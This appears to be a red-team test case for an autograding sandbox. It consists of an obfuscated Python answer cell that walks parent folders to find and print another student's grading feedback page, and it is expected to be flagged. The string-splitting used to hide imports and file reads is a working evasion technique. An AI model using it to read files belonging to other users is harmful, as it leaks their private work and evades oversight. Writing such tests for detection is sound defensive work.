# case: an answer cell walks the grading output folder and prints another student's feedback page, so the page handed back to the attacker holds a classmate's answers; the sandbox hides the output folder, so it finds nothing
# into: leaf-2
# expect: flagged
# The file is read through NumPy (np.fromfile), not open(); every name is built from pieces.
ns = vars()
imp = getattr(ns["__bu" + "iltins__"], "__im" + "port__")
o, np = imp("o" + "s"), imp("num" + "py")
where = getattr(o, "pa" + "th")
here, shown = getattr(o, "get" + "cwd")(), None
for _ in range(6):
    here = where.dirname(here)
    for folder, _, files in getattr(o, "wa" + "lk")(here):
        pages = [where.join(folder, f) for f in files if f.endswith(".html") and "redteam" not in folder]
        if pages and shown is None:
            shown = pages[0]
    if shown:
        break
if shown:
    text = getattr(np, "from" + "file")(shown, dtype="uint8").tobytes().decode(errors="replace")
    print("READ", len(text), "bytes of", shown)
    print(text[-3000:])
else:
    print("FOUND NOTHING")
